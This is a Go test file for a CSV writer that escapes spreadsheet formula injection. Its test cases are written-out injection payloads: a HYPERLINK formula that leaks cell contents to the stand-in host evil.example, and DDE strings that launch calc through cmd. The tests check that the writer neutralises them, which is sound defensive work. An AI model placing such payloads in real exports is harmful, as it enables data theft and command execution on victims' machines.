package render

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

func TestCSVCell(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"plain", "plain"},
		{"login", "login"},
		{"86.176.87.160", "86.176.87.160"},
		{"2018-06-23T15:18:09.000Z", "2018-06-23T15:18:09.000Z"},
		{"東京", "東京"},

		// formula starts get a leading quote
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"-7730285591348820017#0", "'-7730285591348820017#0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0.xlsx", "'@SUM(1+1)*cmd|' /C calc'!A0.xlsx"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\x00=1", "'\x00=1"},
		{"=", "'="},

		// only the first byte counts
		{"a=b", "a=b"},
		{"1+1", "1+1"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"\n=1", "\n=1"},
	}
	for _, tc := range tests {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVWriterOutput(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewCSV(&buf, []string{"Time", "Event ID", "=Label"})
	if err != nil {
		t.Fatal(err)
	}
	rows := [][]string{
		{"2018-06-23T15:18:09.000Z", "-6285966971996490902#0", "plain"},
		{"a,b", `say "hi"`, "line1\nline2"},
		{`=HYPERLINK("x")`, "+1", "@x"},
		{"\t=1+1", "", " lead"},
		{"a\xffb", "\xc3", "ok"},
		{"", "", ""},
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "Time,Event ID,'=Label\r\n" +
		"2018-06-23T15:18:09.000Z,'-6285966971996490902#0,plain\r\n" +
		`"a,b","say ""hi""","line1` + "\r\n" + `line2"` + "\r\n" +
		`"'=HYPERLINK(""x"")",'+1,'@x` + "\r\n" +
		"'\t=1+1,,\" lead\"\r\n" +
		"a\uFFFDb,\uFFFD,ok\r\n" +
		",,\r\n"
	if got := buf.String(); got != want {
		t.Errorf("CSV output:\n got %q\nwant %q", got, want)
	}
}

// csvExpect is what reading a written cell back must give: the neutralised
// value. csv.Writer with UseCRLF drops a carriage return inside a field and
// writes a newline as CRLF, which csv.Reader reads back as a newline, so
// carriage returns do not survive the round trip.
func csvExpect(s string) string {
	return strings.ReplaceAll(CSVCell(strings.ToValidUTF8(s, "\uFFFD")), "\r", "")
}

func checkCSVRoundTrip(t *testing.T, labels []string, rows [][]string) {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewCSV(&buf, labels)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasSuffix(out, "\r\n") {
		t.Fatalf("output does not end with CRLF: %q", out)
	}
	for i := 0; i < len(out); i++ {
		if out[i] == '\n' && (i == 0 || out[i-1] != '\r') {
			t.Fatalf("bare LF at byte %d of %q", i, out)
		}
	}
	got, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the output %q: %v", out, err)
	}
	all := append([][]string{labels}, rows...)
	if len(got) != len(all) {
		t.Fatalf("read %d records, wrote %d: %q", len(got), len(all), out)
	}
	for i := range all {
		if len(got[i]) != len(all[i]) {
			t.Fatalf("record %d has %d fields, want %d: %q", i, len(got[i]), len(all[i]), got[i])
		}
		for j, cell := range all[i] {
			if want := csvExpect(cell); got[i][j] != want {
				t.Errorf("record %d field %d: read back %q, want %q (written %q)", i, j, got[i][j], want, cell)
			}
			if c := got[i][j]; c != "" {
				switch c[0] {
				case '=', '+', '-', '@', '\t', '\r', 0:
					t.Errorf("record %d field %d read back as a formula: %q", i, j, c)
				}
			}
		}
	}
}

func TestCSVWriterRoundTrip(t *testing.T) {
	checkCSVRoundTrip(t, []string{"Time", "User", "Note"}, [][]string{
		{"2018-06-23T15:18:09.000Z", "bob@example.com", "plain"},
		{"a,b", `"quoted"`, `",",`},
		{"line1\nline2", "\n", "a\r\nb"},
		{"\r=1", "carriage\rreturn", "\r"},
		{"=1+1", "+cmd|' /C calc'!A0", "-2+3"},
		{"@SUM(1+1)", "\t=1+1", "\x00x"},
		{"東京", "søren.dvořák@example.com", "\ufeffbom"},
		{"a\xffb", "\xed\xa0\x80", "\xc3"},
		{"", " ", "  padded  "},
		{`\.`, "#comment", "'already"},
	})
}

type errWriter struct{ err error }

func (e errWriter) Write([]byte) (int, error) { return 0, e.err }

func TestCSVWriterError(t *testing.T) {
	boom := errors.New("disk full")
	w, err := NewCSV(errWriter{boom}, []string{"a"})
	if err != nil {
		t.Fatal(err) // buffered: the header is not written yet
	}
	if err := w.Write([]string{"x"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); !errors.Is(err, boom) {
		t.Errorf("Flush = %v, want %v", err, boom)
	}
}

func FuzzCSVRoundTrip(f *testing.F) {
	f.Add("=1+1", "a,b", "line\nbreak")
	f.Add("\r=cmd", `"`, "\xff")
	f.Add("-1", "@x", "\t")
	f.Add("", "", "\r\n")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		checkCSVRoundTrip(t, []string{"A", "B", "C"}, [][]string{{a, b, c}, {c, a, b}})
	})
}
